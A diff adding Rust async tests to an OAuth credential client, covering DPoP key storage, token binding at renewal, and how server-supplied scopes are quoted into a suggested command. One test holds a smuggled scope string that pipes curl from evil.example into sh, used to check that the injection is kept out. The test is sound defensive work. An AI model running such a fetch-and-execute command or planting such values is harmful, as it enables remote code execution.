@@ -16,7 +16,7 @@ use tokio::{
 };
 
 use super::*;
-use crate::{keeping::KeyStore, sign_in::person::Reach, target::McpUrl};
+use crate::{keeping::KeyStore, possession::DpopKey, sign_in::person::Reach, target::McpUrl};
 
 /// Answers every request alike, once it may.
 struct Server {
@@ -168,6 +168,36 @@ async fn what_was_bound_once_is_not_taken_unbound() {
 }
 
 #[tokio::test]
+async fn a_key_that_was_kept_before_is_as_good_as_the_word_that_it_was_bound() {
+    let world = World::start(9).await;
+    let dpop_key = Some(DpopKey::generate().unwrap());
+    world.credentials.keeper.save(&Kept { dpop_key, ..world.kept.clone() }).await.unwrap();
+    world.grants("r-2");
+    let fault = world.credentials.token().await.unwrap_err();
+    assert!(matches!(&fault, Fault::Answer { .. }), "{fault}");
+    assert!(world.credentials.present.lock().await.held.is_none());
+    assert_eq!(world.refresh_token().await.as_deref(), Some("r-1"), "nothing of it is kept");
+}
+
+#[tokio::test]
+async fn a_token_that_is_bound_at_a_renewal_was_bound_once() {
+    let world = World::start(9).await;
+    world.says(
+        200,
+        &json!({
+            "access_token": "t", "token_type": "Bearer", "refresh_token": "r-2",
+            "binding_alg": "aes-256-gcm", "binding_key": "A".repeat(43),
+        }),
+    );
+    let held = world.credentials.token().await.unwrap();
+    assert!(matches!(held.bound, Bound::Envelope(_)) && world.credentials.keeper.load().await.unwrap().is_bound);
+    world.grants("r-3");
+    let fault = world.credentials.renewed(&held).await.unwrap_err();
+    assert!(matches!(&fault, Fault::Answer { .. }), "{fault}");
+    assert_eq!(world.refresh_token().await.as_deref(), Some("r-2"));
+}
+
+#[tokio::test]
 async fn where_nobody_can_be_asked_no_server_hears_of_it() {
     let world = World::start(9).await;
     world.credentials.keeper.forget().await.unwrap();
@@ -206,4 +236,35 @@ async fn more_scope_that_another_bridge_has_got_is_taken_over() {
     let same = world.credentials.step_up(&held, "b").await.unwrap().unwrap();
     assert_eq!((same.access_token.as_str(), world.asked()), ("wide", 2));
     assert!(world.credentials.step_up(&wider, "b").await.unwrap().is_none(), "there is no more to be had");
+}
+
+#[tokio::test]
+async fn no_words_of_a_server_but_names_of_scopes_get_into_a_command() {
+    const SCOPE: &str = "a '!';curl${IFS}evil.example|sh;'";
+    for is_kept in [true, false] {
+        let world = World::start(9).await;
+        let scope = is_kept.then(|| SCOPE.to_owned());
+        world.credentials.keeper.save(&Kept { scope, ..world.kept.clone() }).await.unwrap();
+        let mut said = json!({"access_token": "t", "token_type": "Bearer", "refresh_token": "r-2"});
+        if !is_kept {
+            said["scope"] = json!(SCOPE);
+        }
+        world.says(200, &said);
+        let held = world.credentials.token().await.unwrap();
+        let refused = world.credentials.step_up(&held, "b").await.unwrap_err().to_string();
+        assert!(refused.contains("--scope 'a b'") && !refused.contains("curl"), "{refused}");
+        let kept = world.credentials.keeper.load().await.unwrap();
+        assert_eq!(kept.scope.as_deref(), Some(if is_kept { SCOPE } else { "a" }));
+    }
+}
+
+#[tokio::test]
+async fn a_scope_that_had_to_be_cut_gets_into_no_command() {
+    let world = World::start(9).await;
+    let long: Vec<String> = (0..20).map(|n| format!("scope:{n:0>20}")).collect();
+    world.credentials.keeper.save(&Kept { scope: Some(long.join(" ")), ..world.kept.clone() }).await.unwrap();
+    world.grants("r-2");
+    let held = world.credentials.token().await.unwrap();
+    let refused = world.credentials.step_up(&held, "b").await.unwrap_err().to_string();
+    assert!(refused.contains("a --scope that has all of it") && !refused.contains("--scope '"), "{refused}");
 }
